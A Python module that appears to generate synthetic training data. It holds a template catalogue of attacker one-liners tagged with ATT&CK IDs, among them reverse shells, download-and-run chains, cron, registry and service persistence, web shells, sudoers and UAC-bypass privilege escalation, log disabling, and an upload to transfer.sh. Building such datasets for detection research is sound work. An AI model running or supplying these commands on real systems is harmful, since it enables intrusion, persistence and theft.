"""Classic one-liners that run, stay, rise and move."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CLASSIC_EXECUTION_LINES = parse_templates(
    r"""
# T1059.001
ac-iex-new-object-n2 powershell +T1059.001: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›.ps1')
ac-iwr-http-ps1 powershell +T1059.001: iwr http://‹ip›/‹name›.ps1 -UseBasicParsing | iex
ac-powershell-ep-bypass powershell +T1059.001: powershell -ep bypass -nop -w hidden -c "IEX(irm http://‹ip›/‹name›)"
ac-powershell-enc cmd +T1059.001: powershell -enc ‹enc›
ac-powershell-nop-w cmd +T1059.001: powershell.exe -nop -w hidden -ep bypass -EncodedCommand ‹enc›
ac-powershell-executionpolicy-bypass cmd +T1059.001: powershell -ExecutionPolicy Bypass -NoProfile -File C:\Users\Public\‹name›.ps1
# T1059.003
ac-cmd-users-public cmd +T1059.003: cmd.exe /c C:\Users\Public\‹name›.bat
ac-cmd-start-min cmd +T1059.003: cmd /c start /min "" %TEMP%\‹name›.bat
# T1059.005
ac-wscript-users-public cmd +T1059.005: wscript.exe C:\Users\Public\‹name›.vbs
ac-cscript-nologo-temp cmd +T1059.005: cscript //nologo %TEMP%\‹name›.vbs
ac-wscript-b-e cmd +T1059.005: wscript.exe //b //e:vbscript %APPDATA%\‹name›.txt
# T1059.007
ac-wscript-temp-js cmd +T1059.007: wscript.exe %TEMP%\‹name›.js
ac-cscript-e-jscript cmd +T1059.007: cscript //e:jscript C:\Users\Public\‹name›.dat
# T1059.006
ac-python3-import-socket bash +T1059.006: python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("‹ip›",‹port›));[os.dup2(s.fileno(),f) for f in(0,1,2)];import pty;pty.spawn("bash")'
ac-python-import-pty bash +T1059.006: python -c 'import pty; pty.spawn("/bin/bash")'
ac-python3-import-urllib bash +T1059.006: python3 -c "import urllib.request;exec(urllib.request.urlopen('http://‹ip›/‹name›.py').read())"
# T1059.004
ac-bash-i-dev bash +T1059.004: bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
ac-rm-tmp-f bash +T1059.004: rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹ip› ‹port› >/tmp/f
ac-0-196-exec bash +T1059.004: 0<&196;exec 196<>/dev/tcp/‹ip›/‹port›; sh <&196 >&196 2>&196
ac-curl-s-http bash +T1059.004: curl -s http://‹ip›/‹name›.sh | bash
ac-wget-qo-http bash +T1059.004: wget -qO- http://‹ip›/‹name›.sh | sh
ac-nc-e-bin bash +T1059.004: nc -e /bin/sh ‹ip› ‹port›
# T1047
ac-wmic-node-process cmd +T1047: wmic /node:‹server› process call create "cmd.exe /c ‹dir›\‹name›.exe"
ac-wmic-process-call-n3 cmd +T1047: wmic process call create "powershell -enc ‹enc›"
ac-invoke-wmimethod-class-n2 powershell +T1047: Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "C:\Users\Public\‹name›.exe" -ComputerName ‹server›
ac-invoke-cimmethod-classname powershell +T1047: Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\Users\Public\‹name›.exe'}
ac-wmiexec-py bash +T1047: wmiexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1053.005
ac-schtasks-create-tn cmd +T1053.005: schtasks /create /tn ‹name› /tr C:\Users\Public\‹name›.exe /sc onlogon
ac-schtasks-create-sc cmd +T1053.005: schtasks /create /sc minute /mo 5 /tn "‹name›" /tr "powershell -w hidden -enc ‹enc›" /f
ac-schtasks-create-s cmd +T1053.005: schtasks /create /s ‹server› /ru SYSTEM /tn ‹name› /tr C:\Windows\Temp\‹name›.exe /sc once /st 00:00
# T1053.003
ac-crontab-l-echo bash +T1053.003: (crontab -l; echo "* * * * * curl -s http://‹ip›/‹name› | sh") | crontab -
ac-echo-root-tmp bash +T1053.003: echo "* * * * * root /tmp/.‹name›" >> /etc/crontab
ac-echo-5-root bash +T1053.003: echo '*/5 * * * * root bash -c "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1"' > /etc/cron.d/‹name›
# T1053.002
ac-echo-bash-i bash +T1053.002: echo "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1" | at now + 1 minute
# T1053.006
ac-systemctl-enable-now bash +T1053.006: systemctl enable --now /tmp/‹name›.timer
# T1569.002
ac-psexec64-accepteula-s-n2 cmd +T1569.002: PsExec64.exe -accepteula \\‹server› -s cmd.exe
ac-sc-start cmd +T1569.002: sc \\‹server› start ‹letters8›
ac-psexec-py bash +T1569.002: psexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1218.005
ac-mshta-http-hta cmd +T1218.005: mshta http://‹ip›/‹name›.hta
ac-mshta-vbscript-close cmd +T1218.005: mshta vbscript:Close(Execute("GetObject(""script:http://‹ip›/‹name›.sct"")"))
# T1218.010
ac-regsvr32-s-n cmd +T1218.010: regsvr32 /s /n /u /i:http://‹ip›/‹name›.sct scrobj.dll
# T1218.011
ac-rundll32-javascript-mshtml cmd +T1218.011: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://‹ip›/‹name›")
ac-rundll32-users-public cmd +T1218.011: rundll32 C:\Users\Public\‹name›.dll,DllMain
ac-rundll32-url-dll cmd +T1218.011: rundll32.exe url.dll,OpenURL C:\Users\Public\‹name›.hta
# T1218.007
ac-msiexec-q-i cmd +T1218.007: msiexec /q /i http://‹ip›/‹name›.msi
# T1218.004
ac-installutil-logfile-logtoconsole cmd +T1218.004: InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\‹name›.dll
# T1218.003
ac-cmstp-s-ns cmd +T1218.003: cmstp.exe /s /ns C:\Users\Public\‹name›.inf
# T1218.001
ac-hh-http-chm cmd +T1218.001: hh.exe http://‹ip›/‹name›.chm
# T1218.009
ac-regasm-u-users cmd +T1218.009: regasm.exe /U C:\Users\Public\‹name›.dll
# T1218.008
ac-odbcconf-s-a cmd +T1218.008: odbcconf.exe /S /A {REGSVR C:\Users\Public\‹name›.dll}
# T1127.001
ac-windows-microsoft-net cmd +T1127.001: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\‹name›.xml
# T1220
ac-wmic-os-get-n2 cmd +T1220: wmic os get /format:"http://‹ip›/‹name›.xsl"
ac-msxsl-xml-xsl cmd +T1220: msxsl.exe ‹name›.xml ‹name›.xsl
# T1202
ac-forfiles-p-windows cmd +T1202: forfiles /p C:\Windows\System32 /m notepad.exe /c C:\Users\Public\‹name›.exe
ac-pcalua-a-users cmd +T1202: pcalua.exe -a C:\Users\Public\‹name›.exe
# T1197
ac-bitsadmin-transfer-download cmd +T1197: bitsadmin /transfer ‹name› /download /priority high http://‹ip›/‹name›.exe C:\Users\Public\‹name›.exe
ac-bitsadmin-setnotifycmdline-users cmd +T1197: bitsadmin /setnotifycmdline ‹name› C:\Users\Public\‹name›.exe NUL
ac-start-bitstransfer-source powershell +T1197: Start-BitsTransfer -Source http://‹ip›/‹name›.exe -Destination C:\Users\Public\‹name›.exe
# T1105
ac-certutil-urlcache-split cmd +T1105: certutil -urlcache -split -f http://‹ip›/‹name›.exe ‹name›.exe
ac-certutil-verifyctl-split cmd +T1105: certutil.exe -verifyctl -split -f http://‹ip›/‹name›.exe
ac-curl-http-o cmd +T1105: curl.exe http://‹ip›/‹name›.exe -o C:\Users\Public\‹name›.exe
ac-new-object-net powershell +T1105: (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','C:\Users\Public\‹name›.exe')
ac-iwr-uri-http powershell +T1105: iwr -Uri http://‹ip›/‹name›.exe -OutFile C:\Users\Public\‹name›.exe
ac-wget-http-o bash +T1105: wget http://‹ip›/‹name› -O /tmp/‹name›
ac-curl-http-o-n2 bash +T1105: curl http://‹ip›/‹name› -o /tmp/.‹name› && chmod +x /tmp/.‹name›
ac-scp-tmp-dev bash +T1105: scp ‹user›@‹ip›:/tmp/‹name› /dev/shm/‹name›
# T1016
ac-netstat-r cmd +T1016: netstat -r
ac-netstat-rn bash +T1016: netstat -rn
ac-curl-ifconfig-me bash +T1016: curl ifconfig.me
# T1548.001
ac-find-perm-4000 bash +T1548.001: find / -perm -4000 -type f 2>/dev/null
# T1567
ac-curl-upload-file bash +T1567: curl --upload-file /tmp/‹name›.tgz https://transfer.sh/‹name›.tgz
# T1685.004
ac-systemctl-stop-rsyslog bash +T1685.004: systemctl stop rsyslog && systemctl disable rsyslog
# T1547.001
ac-reg-add-hkcu cmd +T1547.001: reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v ‹name› /t REG_SZ /d C:\Users\Public\‹name›.exe /f
ac-copy-appdata-microsoft cmd +T1547.001: copy ‹name›.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\"
ac-set-itemproperty-hkcu powershell +T1547.001: Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name ‹name› -Value C:\Users\Public\‹name›.exe
# T1547.004
ac-reg-add-hkcu-n2 cmd +T1547.004: reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d "explorer.exe, C:\Users\Public\‹name›.exe" /f
# T1547.006
ac-insmod-tmp-ko bash +T1547.006: insmod /tmp/‹name›.ko
# T1543.003
ac-sc-create-binpath cmd +T1543.003: sc create ‹name› binPath= "C:\Users\Public\‹name›.exe" start= auto
ac-sc-create-binpath-n2 cmd +T1543.003: sc \\‹server› create ‹name› binPath= "cmd.exe /c C:\Windows\Temp\‹name›.bat"
ac-sc-config-binpath cmd +T1543.003: sc config ‹name› binPath= "cmd /c net localgroup administrators ‹user› /add"
# T1543.002
ac-printf-service-nexecstart bash +T1543.002: printf '[Service]\nExecStart=/tmp/.‹name›\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/‹name›.service
# T1136.001
ac-net-user-add cmd +T1136.001: net user ‹user› ‹pass› /add
ac-net-user-support cmd +T1136.001: net user support_‹n› ‹pass› /add & net localgroup administrators support_‹n› /add
ac-new-localuser-name powershell +T1136.001: New-LocalUser -Name ‹name› -Password (ConvertTo-SecureString '‹pass›' -AsPlainText -Force)
ac-useradd-m-s bash +T1136.001: useradd -m -s /bin/bash ‹name›
ac-useradd-o-u bash +T1136.001: useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ‹name›
# T1136.002
ac-net-user-add-n2 cmd +T1136.002: net user ‹user› ‹pass› /add /domain
# T1098.004
ac-echo-ssh-rsa bash +T1098.004: echo "ssh-rsa AAAAB3NzaC1yc2E‹hash› root@‹name›" >> ~/.ssh/authorized_keys
# T1098
ac-net-localgroup-administrators-n2 cmd +T1098: net localgroup administrators ‹user› /add
ac-net-group-domain-n4 cmd +T1098: net group "Domain Admins" ‹user› /add /domain
ac-add-localgroupmember-group powershell +T1098: Add-LocalGroupMember -Group Administrators -Member ‹user›
# T1098.007
ac-usermod-ag-sudo bash +T1098.007: usermod -aG sudo ‹name›
# T1546.003
ac-register-wmievent-query powershell +T1546.003: Register-WmiEvent -Query "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'" -Action { Start-Process C:\Users\Public\‹name›.exe }
# T1546.004
ac-echo-tmp-bashrc bash +T1546.004: echo "/tmp/.‹name› &" >> ~/.bashrc
ac-echo-nohup-bash bash +T1546.004: echo "nohup bash -i >& /dev/tcp/‹ip›/‹port› 0>&1 &" >> /etc/profile
# T1546.008
ac-copy-y-windows cmd +T1546.008: copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe
ac-copy-y-windows-n2 cmd +T1546.008: copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\utilman.exe
# T1546.012
ac-reg-add-hklm-n2 cmd +T1546.012: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe" /v Debugger /d C:\Users\Public\‹name›.exe /f
# T1505.003
ac-echo-php-system bash +T1505.003: echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/‹name›.php
ac-echo-page-language cmd +T1505.003: echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["‹name›"],"unsafe");%^> > C:\inetpub\wwwroot\‹name›.aspx
# T1548.001
ac-chmod-u-s bash +T1548.001: chmod u+s /bin/bash
ac-cp-bin-bash bash +T1548.001: cp /bin/bash /tmp/.‹name›; chmod 4755 /tmp/.‹name›
ac-setcap-cap-setuid bash +T1548.001: setcap cap_setuid+ep /tmp/‹name›
# T1548.002
ac-reg-add-hkcu-n3 cmd +T1548.002: reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /v DelegateExecute /d "" /f & fodhelper.exe
ac-reg-add-hkcu-n4 cmd +T1548.002: reg add HKCU\Software\Classes\mscfile\shell\open\command /ve /d C:\Users\Public\‹name›.exe /f & eventvwr.exe
ac-reg-add-hklm-n3 cmd +T1548.002: reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f
# T1548.003
ac-sudo-l bash +T1548.003: sudo -l
ac-echo-all-all bash +T1548.003: echo "‹name› ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers
# T1134.001
ac-mimikatz-privilege-debug-n4 cmd +T1134.001: mimikatz.exe "privilege::debug" "token::elevate" exit
ac-printspoofer64-i-cmd cmd +T1134.001: PrintSpoofer64.exe -i -c cmd
ac-juicypotato-l-p cmd +T1134.001: JuicyPotato.exe -l ‹port› -p C:\Windows\System32\cmd.exe -t *
ac-godpotato-net4-cmd cmd +T1134.001: GodPotato-NET4.exe -cmd "cmd /c whoami"
# T1068
ac-linpeas-sh bash +T1082: ./linpeas.sh
ac-gcc-dirtycow-o bash +T1068: gcc dirtycow.c -o /tmp/‹name› -lpthread -lcrypt && /tmp/‹name›
# T1611
ac-docker-run-v bash +T1611: docker run -v /:/mnt --rm -it alpine chroot /mnt sh
ac-nsenter-target-1 bash +T1611: nsenter --target 1 --mount --uts --ipc --net --pid -- bash
# T1574.006
ac-echo-tmp-so bash +T1574.006: echo /tmp/‹name›.so >> /etc/ld.so.preload
ac-ld-preload-tmp bash +T1574.006: LD_PRELOAD=/tmp/‹name›.so /usr/bin/sudo
# T1055.001
ac-mavinject-injectrunning-users cmd +T1218.013: mavinject.exe ‹pid› /INJECTRUNNING C:\Users\Public\‹name›.dll
"""
)
